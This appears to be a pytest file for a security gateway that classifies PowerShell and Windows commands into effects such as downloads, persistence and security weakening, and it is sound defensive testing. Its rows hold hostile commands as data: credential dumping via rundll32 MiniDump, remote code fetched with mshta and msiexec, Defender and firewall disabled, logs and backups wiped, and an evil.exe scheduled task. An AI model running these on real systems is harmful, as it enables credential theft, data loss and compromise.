"""System, security and process effects as whole effects, with the phrase a refusal quotes; found by mutation testing.

Each row is a command as the model would send it to the PowerShell tool, and the effects the gateway
reads from it: kind, target, the detail a reason shows, and the extra facts (the command, the setting,
the members) a reason or a remedy quotes. Expectations are written from what the commands do on Windows.
Where the command's name in `extra` is spelled oddly today (`Add-Windowsfeature`, `invoke-wmimethod`), the
rows compare kind, target, detail and setting only, so they do not pin that spelling.
"""

from __future__ import annotations

import pytest

from policy.rules.effects_common import effect
from policy.rules.effects_dispatch import effects_of
from policy.rules.effects_system import dotnet_system
from policy.rules.shell.ops import Effect, EffectKind, Operation
from tests._requirements import requirement
from tests.policy.verdicts import ps_effects as _effects

K = EffectKind


def _weak(what: str, target: str | None, command: str, setting: str = "") -> Effect:
    extra = (("command", command),) + ((("setting", setting),) if setting else ())
    return effect(K.SECURITY_WEAKENING, target, what, extra=extra)


# ---------------------------------------------------------------------------------------
# Processes: kills, programs started, downloads


@requirement("S-RULE-18")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            'taskkill /fi "PID eq 4242"', (effect(K.KILL, "pid:4242", "taskkill"),), id="taskkill-fi-pid-is-a-pid"
        ),
        pytest.param(
            'taskkill /fi "imagename eq notepad.exe"',
            (effect(K.KILL, "notepad.exe", "taskkill"),),
            id="taskkill-fi-imagename-is-the-name",
        ),
        pytest.param(
            'taskkill /f /fi "username eq bob"',
            (effect(K.KILL_FORCED, None, "taskkill /f /fi (filtered)"),),
            id="taskkill-fi-user-is-a-filtered-kill",
        ),
        pytest.param(
            "wmic process where name='notepad.exe' delete",
            (effect(K.KILL_FORCED, "notepad.exe", "Win32_Process terminate"),),
            id="wmic-process-delete-by-name",
        ),
        pytest.param(
            "wmic process where processid=4242 call terminate",
            (effect(K.KILL_FORCED, "pid:4242", "Win32_Process terminate"),),
            id="wmic-process-terminate-by-pid",
        ),
    ],
)
def test_a_kill_names_its_process_and_how_it_was_killed(command: str, expected: tuple[Effect, ...]) -> None:
    """S-RULE-18: taskkill /fi and wmic kills name the process (`name` or `pid:N`) and the command in the detail."""
    assert _effects(command) == expected


@requirement("S-RULE-18")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            "certutil -encodehex a.txt b.txt",
            (effect(K.READ, "a.txt", "certutil -decode"), effect(K.WRITE, "b.txt", "certutil -decode output")),
            id="certutil-encodehex-reads-and-writes",
        ),
        pytest.param("installutil x.dll", (effect(K.EXECUTE, "x.dll", "installutil"),), id="installutil-runs-its-dll"),
        pytest.param("installutil", (effect(K.EXECUTE, None, "installutil"),), id="installutil-alone-runs-unknown"),
        pytest.param(
            "Import-Module mod.psm1",
            (effect(K.EXECUTE, "mod.psm1", "Import-Module (file)"),),
            id="import-module-psm1-file",
        ),
        pytest.param("Import-Module ActiveDirectory", (), id="import-module-by-name-runs-no-file"),
        pytest.param(
            "mshta http://x/a.hta",
            (effect(K.DOWNLOAD_EXECUTE, "http://x/a.hta", "mshta URL or inline script"),),
            id="mshta-url",
        ),
        pytest.param("mshta C:\\x\\a.hta", (effect(K.EXECUTE, "C:\\x\\a.hta", "mshta"),), id="mshta-local-file"),
        pytest.param(
            "msiexec /l*v install.log /i http://x/a.msi",
            (effect(K.DOWNLOAD_EXECUTE, "http://x/a.msi", "msiexec from URL"),),
            id="msiexec-i-after-a-log-file",
        ),
        pytest.param(
            "msiexec /l*v install.log /j http://x/a.msi",
            (effect(K.DOWNLOAD_EXECUTE, "http://x/a.msi", "msiexec from URL"),),
            id="msiexec-j-after-a-log-file",
        ),
        pytest.param(
            "powershell -File C:\\x\\a.ps1",
            (effect(K.EXECUTE, "C:\\x\\a.ps1", "powershell -File"),),
            id="powershell-file",
        ),
        pytest.param(
            "rundll32 foo.dll,MiniDump 624 C:\\x.dmp full",  # a renamed comsvcs copy (S-RULE-96)
            (effect(K.CREDENTIAL_ACCESS, "pid:624", "rundll32 foo.dll MiniDump"),),
            id="rundll32-minidump-entry-of-any-dll-is-a-dump",
        ),
        pytest.param(
            "rundll32 comsvcs.dll,DllRegisterServer",
            (effect(K.EXECUTE, "comsvcs.dll", "rundll32"),),
            id="rundll32-comsvcs-without-minidump-is-a-run",
        ),
        pytest.param(
            '$s = New-Object -ComObject Shell.Application; $s.ShellExecute("cmd.exe", "/c dir", "", "runas")',
            (effect(K.EXECUTE, "cmd.exe", "Shell.Application ShellExecute runas", extra=(("args", "/c dir"),)),),
            id="shellexecute-runas",
        ),
        pytest.param(
            '(New-Object -ComObject Shell.Application).ShellExecute("notepad.exe")',
            (effect(K.EXECUTE, "notepad.exe", "Shell.Application ShellExecute"),),
            id="shellexecute-plain",
        ),
        pytest.param(
            "Start-Process notepad -ArgumentList C:\\x.txt",
            (effect(K.EXECUTE, "notepad", "Start-Process", extra=(("args", "C:\\x.txt"),)),),
            id="start-process-with-arguments",
        ),
        pytest.param(
            "cmd /c start notepad C:\\x.txt", (effect(K.EXECUTE, "notepad", "start"),), id="cmd-start-program-first"
        ),
        pytest.param(
            "wmic /user:admin process call create calc.exe",
            (effect(K.EXECUTE, "calc.exe", "wmic process call create"),),
            id="wmic-user-option-is-not-the-alias",
        ),
        pytest.param(
            "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList notepad.exe",
            (effect(K.EXECUTE, "notepad.exe", "Invoke-WmiMethod Win32_Process Create"),),
            id="invoke-wmimethod-create",
        ),
        pytest.param("wmic", (), id="wmic-alone-does-nothing"),
    ],
)
def test_a_program_start_or_download_names_what_runs(command: str, expected: tuple[Effect, ...]) -> None:
    """S-RULE-18: programs started, LOLBin downloads and runs name the file run and the command in the detail."""
    assert _effects(command) == expected


@requirement("S-RULE-25")
def test_inline_interpreter_code_keeps_the_command_line_it_was_given() -> None:
    """S-RULE-25: `python -c` is inline code the gateway cannot read; its command line goes with the effect."""
    assert _effects('python -c "print(1)"') == (
        effect(K.EXECUTE, None, "python inline code", extra=(("command", "-c print(1)"),)),
    )


@requirement("S-RULE-18")
def test_bitsadmin_notify_command_without_a_program_runs_an_unknown_program() -> None:
    """S-RULE-18: `bitsadmin /setnotifycmdline job` with no program is persistence plus a run of an unknown program."""
    op = Operation("program", "bitsadmin", (), ("/setnotifycmdline", "job1"))
    assert effects_of(op) == (
        effect(K.PERSISTENCE, "job1", "bitsadmin /setnotifycmdline", extra=(("rule", "persistence-hijack"),)),
        effect(K.EXECUTE, None, "bitsadmin /setnotifycmdline"),
    )


# ---------------------------------------------------------------------------------------
# Security weakening


@requirement("S-RULE-18")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            "auditpol /remove /category:System",
            (_weak("audit-policy", "System", "auditpol /remove"),),
            id="auditpol-remove-category",
        ),
        pytest.param(
            "bcdedit /set debug on", (_weak("kernel-debug", None, "bcdedit /set debug on"),), id="bcdedit-debug"
        ),
        pytest.param(
            "bcdedit /set recoveryenabled No",
            (effect(K.DISK_DESTROY, None, "boot", extra=(("command", "bcdedit /set recoveryenabled no"),)),),
            id="bcdedit-recovery-off",
        ),
        pytest.param(
            "bcdedit /set safeboot minimal",
            (_weak("safe-boot", None, "bcdedit /set safeboot"),),
            id="bcdedit-safeboot",
        ),
        pytest.param(
            "bcdedit /set hypervisorlaunchtype off",
            (_weak("virtualization-security", None, "bcdedit /set hypervisorlaunchtype off"),),
            id="bcdedit-hypervisor-off",
        ),
        pytest.param(
            "Set-NetFirewallProfile -Name Domain -Enabled False",
            (_weak("firewall", "Domain", "Set-NetFirewallProfile -Enabled False"),),
            id="firewall-profile-by-name",
        ),
        pytest.param(
            "New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow",
            (_weak("firewall-rule", "x", "New-NetFirewallRule -Action Allow"),),
            id="firewall-rule-inbound-allow",
        ),
        pytest.param(
            "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
            (),
            id="firewall-rule-outbound-allow",
        ),
        pytest.param(
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            (_weak("defender", "disablerealtimemonitoring", "Set-MpPreference", "disablerealtimemonitoring"),),
            id="defender-realtime-off",
        ),
        pytest.param("netsh wlan show profiles", (), id="netsh-wlan-profiles-without-keys"),
        pytest.param(
            "netsh wlan show profile name=home key=clear",
            (effect(K.CREDENTIAL_ACCESS, None, "netsh wlan key=clear (Wi-Fi keys)"),),
            id="netsh-wlan-key-clear",
        ),
        pytest.param("netsh interface show interface key=clear", (), id="netsh-key-clear-outside-wlan"),
        pytest.param(
            "Set-ProcessMitigation -Name notepad.exe -Disable DEP",
            (_weak("exploit-protection", "notepad.exe", "Set-ProcessMitigation -Disable"),),
            id="process-mitigation-off",
        ),
        pytest.param(
            "Enable-PSRemoting -Force",
            (_weak("remote-access", None, "Enable-PSRemoting"),),
            id="enable-psremoting",
        ),
        pytest.param(
            "sc.exe delete WinDefend", (_weak("defender", "WinDefend", "sc delete"),), id="sc-delete-defender"
        ),
        pytest.param(
            "sc.exe create evil binPath= C:\\x\\evil.exe",
            (
                effect(
                    K.PERSISTENCE,
                    "evil",
                    "sc create",
                    extra=(("command", "c:\\x\\evil.exe"), ("runs_later", "C:\\x\\evil.exe")),
                ),
            ),
            id="sc-create-with-binpath",
        ),
        pytest.param(
            "sc.exe config Spooler start= auto",
            (effect(K.PERSISTENCE, "Spooler", "sc config"),),
            id="sc-config-without-binpath",
        ),
        pytest.param("net stop WinDefend", (_weak("defender", "WinDefend", "net stop"),), id="net-stop-defender"),
    ],
)
def test_a_security_weakening_names_what_is_weakened_and_by_which_command(
    command: str, expected: tuple[Effect, ...]
) -> None:
    """S-RULE-18: a weakening names what is weakened (detail), the target, and the command and setting (extra)."""
    assert _effects(command) == expected


def _facts(found: tuple[Effect, ...]) -> list[tuple[EffectKind, str | None, str, str | None]]:
    """Kind, target, detail and setting of each effect (the command's spelling left out: see the module note)."""
    return [(e.kind, e.target, e.detail, dict(e.extra).get("setting")) for e in found]


W = K.SECURITY_WEAKENING


@requirement("S-RULE-18")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            "Set-SmbServerConfiguration -EnableSMB1Protocol $true",
            [(W, "enablesmb1protocol", "smb1", "enablesmb1protocol")],
            id="smb1-server-setting",
        ),
        pytest.param("Add-WindowsFeature FS-SMB1", [(W, None, "smb1", "SMB1Protocol")], id="add-windowsfeature-smb1"),
        pytest.param("Remove-WindowsFeature FS-SMB1", [], id="remove-windowsfeature-smb1"),
    ],
)
def test_a_setting_or_feature_weakening_names_the_setting(
    command: str, expected: list[tuple[EffectKind, str | None, str, str | None]]
) -> None:
    """S-RULE-18: SMB settings and SMB1 turned back on weaken `smb1` and name the setting changed."""
    assert _facts(_effects(command)) == expected


@requirement("S-RULE-40")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            "Get-WmiObject Win32_Product -Filter \"Name like '%Sophos%'\" | Invoke-WmiMethod -Name Uninstall",
            [(W, "Sophos", "security-software", None)],
            id="wmi-uninstall-of-sophos",
        ),
        pytest.param(
            "Disable-WindowsOptionalFeature Windows-Defender -Online",
            [(W, None, "defender", "Windows-Defender"), (W, "Defender", "security-software", None)],
            id="defender-feature-by-position",
        ),
        pytest.param("'SomeApp' | Uninstall-Package; Get-Package Sophos", [], id="a-later-command-feeds-nothing"),
    ],
)
def test_uninstalling_security_software_is_read_from_the_uninstall_and_what_pipes_into_it(
    command: str, expected: list[tuple[EffectKind, str | None, str, str | None]]
) -> None:
    """S-RULE-40: an uninstall naming a security product, or fed by a command naming one, weakens; nothing else."""
    assert _facts(_effects(command)) == expected


# ---------------------------------------------------------------------------------------
# Accounts, logs, backups, disks, power, credentials


@requirement("S-RULE-18")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param("Limit-EventLog -LogName Security -MaximumSize 1GB", (), id="limit-eventlog-1gb-is-not-tiny"),
        pytest.param(
            "Limit-EventLog -LogName Security -MaximumSize 64KB",
            (effect(K.LOG_CLEAR, "Security", "Limit-EventLog -MaximumSize (log shrunk)"),),
            id="limit-eventlog-64kb-clears",
        ),
        pytest.param(
            "wevtutil sl Security /maxsize:1024",
            (effect(K.LOG_CLEAR, "Security", "wevtutil sl /ms (log shrunk)"),),
            id="wevtutil-maxsize-long-form",
        ),
        pytest.param(
            'wmic nteventlog where filename="security" call cleareventlog',
            (effect(K.LOG_CLEAR, "security", "wmic nteventlog cleareventlog"),),
            id="wmic-cleareventlog-names-its-log",
        ),
        pytest.param(
            "Format-Volume -DriveLetter D", (effect(K.DISK_DESTROY, "D", "Format-Volume"),), id="format-volume-d"
        ),
        pytest.param("Clear-Disk", (effect(K.DISK_DESTROY, None, "Clear-Disk"),), id="clear-disk-unknown-disk"),
        pytest.param(
            "reagentc /disable",
            (effect(K.DISK_DESTROY, None, "backups", extra=(("command", "reagentc /disable"),)),),
            id="reagentc-disable",
        ),
        pytest.param(
            "wbadmin delete catalog",
            (effect(K.DISK_DESTROY, None, "backups", extra=(("command", "wbadmin delete catalog"),)),),
            id="wbadmin-delete-catalog",
        ),
        pytest.param("wmic os call shutdown", (effect(K.POWER, None, "wmic os shutdown"),), id="wmic-os-shutdown"),
        pytest.param(
            "net localgroup Administrators bob /add",
            (effect(K.ACCOUNT_CHANGE, "Administrators", "net localgroup /add", extra=(("member", "bob"),)),),
            id="net-localgroup-add",
        ),
        pytest.param(
            "net localgroup Administrators bob /delete",
            (effect(K.ACCOUNT_CHANGE, "Administrators", "net localgroup /delete", extra=(("member", "bob"),)),),
            id="net-localgroup-delete",
        ),
        pytest.param(
            '([ADSI]"WinNT://./Administrators,group").Add("WinNT://./bob")',
            (
                effect(
                    K.ACCOUNT_CHANGE,
                    "winnt://./administrators,group",
                    "ADSI add",
                    extra=(("member", "WinNT://./bob"),),
                ),
            ),
            id="adsi-group-add-names-the-member",
        ),
        pytest.param(
            "schtasks /create /tn Updater /tr C:\\x\\evil.exe /sc onlogon",
            (
                effect(
                    K.PERSISTENCE,
                    "Updater",
                    "schtasks /create",
                    extra=(("command", "C:\\x\\evil.exe"), ("runs_later", "C:\\x\\evil.exe")),
                ),
            ),
            id="schtasks-create-names-its-command",
        ),
    ],
)
def test_a_system_change_names_its_target_and_command(command: str, expected: tuple[Effect, ...]) -> None:
    """S-RULE-18: log clearing, backups, disks, power, accounts and tasks name the target and the command."""
    assert _effects(command) == expected


@requirement("S-RULE-18")
def test_any_call_on_the_windows_password_vault_is_credential_access() -> None:
    """S-RULE-18: a .NET call on `Windows.Security.Credentials.PasswordVault` reads the Windows credential vault."""
    op = Operation("dotnet", "windows.security.credentials.passwordvault::new", (), ())
    assert dotnet_system(op) == (effect(K.CREDENTIAL_ACCESS, None, "Windows PasswordVault"),)
    assert dotnet_system(Operation("dotnet", "io.file::delete", (), ())) == ()
